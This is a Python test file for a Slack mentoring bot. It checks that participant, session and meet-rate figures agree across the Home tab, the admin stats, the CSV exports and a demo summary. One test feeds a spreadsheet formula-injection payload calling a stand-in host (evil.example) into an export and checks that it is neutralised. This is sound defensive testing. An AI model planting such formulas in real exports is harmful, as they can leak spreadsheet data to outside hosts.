"""The program's figures agree everywhere HR reads them: a small program run over signed HTTP
(a round approved, two weeks of prompts and check-ins, someone paused, someone waitlisted,
someone not yet matched, someone gone), then the same numbers under the same names on the Home
tab, in `/rotnem admin stats`, in the CSV exports and in the demo summary."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from datetime import UTC, datetime, timedelta

from bot.demo.summary import Summary
from bot.ids import ActionId, BlockId
from bot.services.enrollment import lifecycle
from bot.services.figures import program_figures
from bot.services.report.learning import learning_figures
from tests.factories import (
    ADMIN_ID,
    ANA,
    BEN,
    BOTH_BACKENDS,
    CARLA,
    DEV,
    EVE,
    JSON,
    Program,
    cohort,
    eventually,
    last_checkin,
    open_home,
    reply,
    rotnem,
)

FAY, GUS = "U0FAY00001", "U0GUS00001"


async def we_met(program: Program, user: str, tool: str, rating: str) -> None:
    """`user` answers this week's check-in "We met" and reports the session."""
    await program.click(last_checkin(program, user), ActionId.CHECKIN_MET, user)
    response = await program.submit(
        user,
        {
            BlockId.CHECKIN_COVERED: tool,
            BlockId.CHECKIN_RATING: rating,
            BlockId.CHECKIN_DIRECTION: "tool",
        },
    )
    assert response.status_code == 200 and response.text in ("", "null"), response.text


async def week(program: Program, number: int) -> None:
    """ISO week `number` of 2026: its prompts (Monday, after every zone's prompt hour) and
    check-ins (Thursday)."""
    monday = datetime.fromisocalendar(2026, number, 1).replace(hour=16, tzinfo=UTC)
    program.at(monday)
    await program.tick()
    await program.deliver()
    program.at(monday + timedelta(days=3))
    await program.tick()
    await program.deliver()


async def small_program(program: Program) -> None:
    """Ana–Carla and Ben–Dev paired, Eve waitlisted; Fay joins later, Gus leaves; week 1 both
    pairs meet (Ana and Carla both report ChatGPT: one session), then Dev pauses and in week 2
    only Ana–Carla is prompted and does not meet."""
    await cohort(program)
    await program.join(GUS, "Gus Gone", "learner", learns=["Canva"])
    proposal = await program.propose()
    before = len(program.slack.responses())
    await program.click(proposal, ActionId.ROUND_APPROVE)
    await program.responses(before + 1)
    await program.deliver_all()
    await program.join(FAY, "Fay Late", "learner", learns=["Canva"])
    async with program.bot.deps.sessionmaker.begin() as session:
        await lifecycle.leave(session, program.team_id, GUS, now=program.clock.now(), via="test")
    await week(program, 49)
    await we_met(program, ANA, "ChatGPT", "4")
    await we_met(program, CARLA, "ChatGPT", "5")
    await we_met(program, BEN, "LinkedIn", "3")
    answer = await rotnem(program.bot, DEV, "pause until 2027-01-04")
    assert "paused" in (await reply(program.bot, answer))["text"].lower()
    await week(program, 50)  # Ben–Dev skipped, Ana–Carla prompted, no session


EXPECTED_SPLIT = "3 in a pair · 1 waitlisted · 1 not yet matched · 1 paused"
EXPECTED = [
    "Participants: 6* (and 1 left the program)",
    EXPECTED_SPLIT,
    "Sessions this cycle (since 23 Nov 2026):* 2",
    "Meet rate:* 67% (2 of 3 prompted pair-weeks met)",
    "Usefulness:* 4.0/5 from 3 reports",
    "Sessions covering each tool:* ChatGPT (1), LinkedIn (1)",
]


def csv_file(program: Program, kind: str) -> list[dict[str, str]]:
    (found,) = [f for f in program.slack.files() if f.name.startswith(f"rotnem-{kind}-")]
    return list(csv.DictReader(io.StringIO(found.content.decode("utf-8-sig"))))


@BOTH_BACKENDS
async def test_the_same_figures_on_home_stats_csv_and_the_demo_summary(program: Program) -> None:
    await small_program(program)

    home = json.dumps((await open_home(program.bot, ADMIN_ID))["blocks"], ensure_ascii=False)
    for line in EXPECTED:
        assert line in home, line

    before = len(program.slack.ephemerals(ADMIN_ID))
    await program.command("admin stats")
    stats: JSON = (await program.answers(before + 1))[-1]
    text = json.dumps(stats["blocks"], ensure_ascii=False)
    for line in EXPECTED:
        assert line in text, line
    assert "last 2 weeks" not in text  # one meet rate, one meaning

    await program.command("admin export")
    await program.slack.wait_for("files.completeUploadExternal", 1, timeout=10)
    people = csv_file(program, "participants")
    status = Counter(p["status"] for p in people)
    assert status == {"in_pair": 3, "waitlisted": 1, "not_yet_matched": 1, "paused": 1, "left": 1}
    sessions = csv_file(program, "sessions")
    assert len(sessions) == 2  # one row per session, not per report
    assert Counter(s["tools"] for s in sessions) == {"ChatGPT": 1, "LinkedIn": 1}
    pairs = csv_file(program, "pairs")
    met = sum(int(p["weeks_met"]) for p in pairs)
    prompted = sum(int(p["weeks_prompted"]) for p in pairs)
    assert (met, prompted) == (2, 3)
    assert sum(int(p["sessions"]) for p in pairs) == 2

    await program.command("admin report")
    report = json.dumps(await eventually(lambda: program.dm(ADMIN_ID)), ensure_ascii=False)
    for line in (
        f"Participants: 6 ({EXPECTED_SPLIT.replace(' ·', ',')})",
        "Sessions this cycle (since 23 Nov 2026): 2; meet rate 67% (2 of 3 prompted pair-weeks",
        "Usefulness: 4.0 / 5 (3 session reports)",
    ):
        assert line in report, line

    async with program.bot.deps.sessionmaker() as session:
        figures = await program_figures(session, program.team_id, now=program.clock.now())
        learning = await learning_figures(session, program.team_id, k=5, since=None)
    summary = Summary(
        people=8,
        weeks=2,
        seed=0,
        program=figures,
        learning=learning,
        stall_alerts=0,
        calls_by_method={},
        ratelimited=0,
        outbox={},
        seconds=0.0,
    )
    rows = dict(summary.rows())
    assert rows["Participants"] == f"6 ({EXPECTED_SPLIT.replace(' ·', ',')}; 1 left)"
    assert rows["Sessions"] == "2"
    assert rows["Meet rate"] == "67% (2 of 3 prompted pair-weeks met)"
    assert rows["Usefulness"] == "4.0 / 5 from 3 report(s)"
    assert rows["Sessions covering each tool"] == "ChatGPT (1), LinkedIn (1)"


@BOTH_BACKENDS
async def test_the_participants_csv_says_what_each_persons_home_says(program: Program) -> None:
    await small_program(program)
    await program.command("admin export participants")
    await program.slack.wait_for("files.completeUploadExternal", 1, timeout=10)
    status = {p["user_id"]: p["status"] for p in csv_file(program, "participants")}
    assert status[EVE] == "waitlisted"  # the raw state is "active"
    home = json.dumps((await open_home(program.bot, EVE))["blocks"], ensure_ascii=False)
    assert "waitlist" in home.lower()
    assert status[DEV] == "paused" and status[FAY] == "not_yet_matched"
    assert status[GUS] == "left" and status[ANA] == status[CARLA] == "in_pair"


@BOTH_BACKENDS
async def test_a_guide_of_two_whose_learner_leaves_is_still_in_a_pair_everywhere(
    program: Program,
) -> None:
    await program.join(ANA, "Ana", "guide", teaches=["ChatGPT"], capacity=2)
    await program.join(BEN, "Ben", "learner", learns=["ChatGPT"])
    await program.join(CARLA, "Carla", "learner", learns=["ChatGPT"])
    await program.pair_by_hand(ANA, BEN)
    await program.pair_by_hand(ANA, CARLA)
    async with program.bot.deps.sessionmaker.begin() as session:
        await lifecycle.leave(session, program.team_id, BEN, now=program.clock.now(), via="test")

    home = json.dumps((await open_home(program.bot, ANA))["blocks"], ensure_ascii=False)
    assert f"<@{CARLA}> since" in home
    assert "waitlist" not in home.lower()  # Ana still meets Carla
    await program.command("admin export participants")
    await program.slack.wait_for("files.completeUploadExternal", 1, timeout=10)
    status = {p["user_id"]: p["status"] for p in csv_file(program, "participants")}
    assert status[ANA] == status[CARLA] == "in_pair" and status[BEN] == "left"


async def test_exports_open_in_a_spreadsheet_as_typed_never_as_formulas(program: Program) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    await program.join(ANA, formula, "guide", teaches=["ChatGPT"], department="+Sales")
    await program.join(BEN, "Zoë Müller", "learner", learns=["ChatGPT"], department="@Ops")
    await program.command("admin export participants")
    await program.slack.wait_for("files.completeUploadExternal", 1, timeout=10)
    (found,) = program.slack.files()
    assert found.content.startswith("\ufeff".encode())  # Excel reads "Zoë", not "ZoÃ«"
    people = {p["user_id"]: p for p in csv_file(program, "participants")}
    assert people[ANA]["name"] == "'" + formula  # text, not a formula
    assert people[ANA]["department"] == "'+Sales" and people[BEN]["department"] == "'@Ops"
    assert people[BEN]["name"] == "Zoë Müller"
